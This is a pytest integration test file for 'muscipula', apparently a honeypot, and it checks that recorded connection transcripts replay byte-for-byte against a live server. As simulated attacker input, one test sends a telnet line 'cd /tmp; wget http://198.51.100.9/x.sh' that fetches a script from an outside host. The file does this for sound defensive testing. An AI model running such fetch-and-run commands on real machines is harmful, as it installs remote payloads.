"""Transcripts and `muscipula replay`: a recorded connection, played again, gets the same."""

from __future__ import annotations

import asyncio
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from muscipula import incidents, services, transcripts
from tests.conftest import only
from tests.integration import limits_service
from tests.integration.test_limits import connect, engine, free_port


def replay(path: Path, port: int, *extra: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "muscipula", "replay", str(path), "--host",
                           "127.0.0.1", "--port", str(port), *extra],
                          capture_output=True, timeout=60)


def client_bytes(path: Path) -> bytes:
    _, chunks = transcripts.read(path)
    return b"".join(data for _, d, data in chunks if d == "in")


def test_blackhole_transcript_replays_against_a_live_server(honeypot_factory):
    cfg = only({"blackhole": {"tcp_ports": [23], "udp_ports": [123]}})
    hp = honeypot_factory(cfg)
    with socket.create_connection(("127.0.0.1", hp.port(23)), timeout=5) as s:
        s.sendall(b"\xff\xfd\x18\xff\xfd\x20")
        time.sleep(0.3)
        s.sendall(b"root\r\n")
        time.sleep(0.2)
        s.sendall(b"cd /tmp; wget http://198.51.100.9/x.sh\r\n")
        time.sleep(0.2)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"\x17\x00\x03\x2a" + b"\x00" * 4, ("127.0.0.1", hp.port(123)))
    u.close()
    time.sleep(0.2)
    assert hp.stop() == 0  # a UDP peer's transcript is written when it ends
    recorded = {p.name.split("-")[1]: p for p in (hp.state / "transcripts").rglob("*.jsonl")}
    tcp, udp = recorded["tcp"], recorded["udp"]
    header, chunks = transcripts.read(tcp)
    assert header["connection"]["remote_host"] == "127.0.0.1"
    assert [d for _, d, _ in chunks] == ["in", "in", "in"]
    assert chunks[1][0] >= 0.25  # time offsets kept
    assert client_bytes(tcp).startswith(b"\xff\xfd\x18")

    live = honeypot_factory(cfg, name="live")
    res = replay(tcp, live.port(23), "--timeout", "0.5")
    assert res.returncode == 0 and res.stdout == b""  # the blackhole still says nothing
    res = replay(udp, live.port(123), "--timeout", "0.5", "--fast")
    assert res.returncode == 0 and res.stdout == b""
    assert live.stop() == 0
    played = {p.name.split("-")[1]: p for p in (live.state / "transcripts").rglob("*.jsonl")}
    assert client_bytes(played["tcp"]) == client_bytes(tcp)  # the same bytes, a second time
    assert client_bytes(played["udp"]) == client_bytes(udp)
    _, again = transcripts.read(played["tcp"])
    assert again[1][0] >= 0.25  # pauses kept without --fast


@pytest.fixture
def chatty(monkeypatch):
    monkeypatch.setitem(services.MODULES, "chatty", "tests.integration.limits_service")
    monkeypatch.setitem(incidents.REGISTRY, limits_service.INCIDENT,
                        incidents.Spec(("event", "tag", "reason"), "test only"))


def test_replay_prints_what_the_server_answers(tmp_path, chatty):
    async def record() -> Path:
        port = free_port()
        async with engine(tmp_path / "a", {"chatty": {"tcp_ports": [port]}}) as (eng, _):
            _, w = await connect(port)
            for line in (b"user admin\n", b"pass secret\n"):
                w.write(line)
                await asyncio.sleep(0.1)
            w.close()
            await asyncio.sleep(0.2)
            state = eng.state_dir
        (path,) = (state / "transcripts").rglob("*.jsonl")
        return path

    path = asyncio.run(record())
    _, chunks = transcripts.read(path)
    said = b"".join(data for _, d, data in chunks if d == "out")
    assert said == b"USER ADMIN\nPASS SECRET\n"

    async def play() -> tuple[int, bytes]:
        port = free_port()
        async with engine(tmp_path / "b", {"chatty": {"tcp_ports": [port]}}):
            proc = await asyncio.create_subprocess_exec(
                sys.executable, "-m", "muscipula", "replay", str(path), "--host", "127.0.0.1",
                "--port", str(port), "--timeout", "0.5", stdout=asyncio.subprocess.PIPE)
            out, _ = await proc.communicate()
            return proc.returncode or 0, out

    code, out = asyncio.run(play())
    assert code == 0 and out == said


def test_replay_of_a_missing_or_broken_file(tmp_path):
    res = replay(tmp_path / "none.jsonl", 9)
    assert res.returncode == 2 and b"Traceback" not in res.stderr
    bad = tmp_path / "bad.jsonl"
    bad.write_text("")
    res = replay(bad, 9)
    assert res.returncode == 2 and b"empty transcript" in res.stderr
